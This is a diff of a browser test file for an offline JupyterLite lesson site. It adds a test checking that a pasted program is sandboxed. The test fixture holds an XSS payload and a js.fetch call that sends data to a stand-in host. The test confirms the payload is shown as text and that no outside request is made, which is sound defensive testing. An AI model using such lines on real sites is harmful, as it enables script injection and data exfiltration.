@@ -1,6 +1,6 @@
 """The lab of the site as a learner meets it, without any server but one for files: a lesson runs, an
 exercise is checked, an endless answer is stopped; and on the next visit, without a network, all of
-it is there again.
+it is there again. Beside it, the page that answers a program which somebody pastes.
 """
 
 import functools
@@ -13,7 +13,7 @@ from types import SimpleNamespace
 
 import pytest
 
-from notebooks.site import lab
+from notebooks.site import lab, why_page
 from tests.browser.lab import CURRENT, KERNEL, Notebook
 
 pytestmark = [pytest.mark.browser, pytest.mark.node, pytest.mark.long, pytest.mark.timeout(3600)]
@@ -70,9 +70,10 @@ class Files:
 
 @pytest.fixture(scope="module")
 def site(request, tmp_path_factory):
-    """The folder of the site, with the lab."""
+    """The folder of the site, with the lab and the page."""
     out = tmp_path_factory.mktemp("site")
     lab.build(out, Path(request.config.cache.mkdir("site")))
+    why_page.build(out)
     file = out / "lab" / "jupyter-lite.json"
     found = json.loads(file.read_text("utf-8"))
     given = found["jupyter-config-data"]
@@ -135,3 +136,48 @@ def test_a_lesson_in_the_browser_and_again_without_a_network(site, visit):
     french = visit(files, f"/lab/index.html?path=fr/{LESSON}", f"fr/{LESSON}")
     assert said(french, "exercise_00_fan_out.check(play_backwards)").startswith("Exécutez d'abord")
     assert not french.blocked
+
+
+ELSEWHERE = """import js
+js.fetch("https://example.org/?" + "what somebody has here")
+print("<img src=x onerror=alert(1)>")
+"""
+
+
+def test_my_gradient_is_none(site, new_page, accessible):
+    files = Files(site)
+    page = new_page(width=1366, height=768)
+    page.set_default_timeout(PATIENCE * 1000)
+    page.goto(files.url.removesuffix("lab") + "why.html", wait_until="networkidle")
+    assert not [path for path in files.asked if "pyodide" in path], "only when somebody asks"
+
+    def answered(program=""):
+        if program:
+            page.fill("#program", program)
+        page.click("#run")
+        page.wait_for_function("() => document.querySelector('#stop').hidden")
+        return page.inner_text("#said")
+
+    assert "x is a plain tensor" in answered()
+    assert page.locator("#picture .caption").inner_text()
+    accessible(page, "main")
+    page.click("#link")
+    page.wait_for_function("() => location.hash.startsWith('#p=')")
+    link = page.url
+    assert "<img src=x onerror=alert(1)>" in answered(ELSEWHERE), "as text"
+    assert not page.locator("#said img").count() and not page.blocked, "nobody else was asked"
+    assert "import torch" in answered("import torch\n") and "torch" in page.inner_text("#state")
+    page.fill("#program", "while True:\n    pass\n")
+    page.click("#run")
+    page.wait_for_function(
+        "state => document.querySelector('#state').innerText === state", arg="The program runs."
+    )
+    page.click("#stop")
+    assert page.inner_text("#state") == "Stopped."
+    page.goto("about:blank")
+    page.goto(link.replace("why.html", "fr/why.html"))
+    page.wait_for_function("() => document.querySelector('#state').innerText")
+    assert page.input_value("#program") == why_page.EXAMPLE
+    assert page.inner_text("#said") == "" and "Lisez-le" in page.inner_text("#state")
+    assert "tenseur" in answered()
+    files.stop()
